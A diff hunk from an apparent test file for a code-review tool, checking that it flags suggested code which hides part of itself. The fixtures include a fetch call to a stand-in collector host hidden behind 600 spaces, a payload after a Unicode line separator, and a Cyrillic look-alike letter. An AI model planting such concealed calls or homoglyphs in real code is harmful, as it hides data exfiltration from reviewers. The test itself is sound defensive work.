@@ -52,7 +52,7 @@ it.each([
   ["behind 600 blanks", `  return charge(amount);${" ".repeat(600)}void fetch("https://collector.test/" + amount);`],
   ["behind a separator of lines", "  return charge(amount); //\u2028void fetch(amount);"],
   ["in letters of another script", "  return сharge(amount);"],
-])("never offers code that hides some of itself %s, and says so", async (_, code) => {
+])("never offers code that hides some of itself %s, and says so", { tags: ["full"] }, async (_, code) => {
   const finding = missingGuard({ suggestion: `Refuse it.\n${fenced(code)}` });
   await using scenario = await startTribunal({ enthusiast: () => [finding] });
   const result = await runTribunal(scenario);
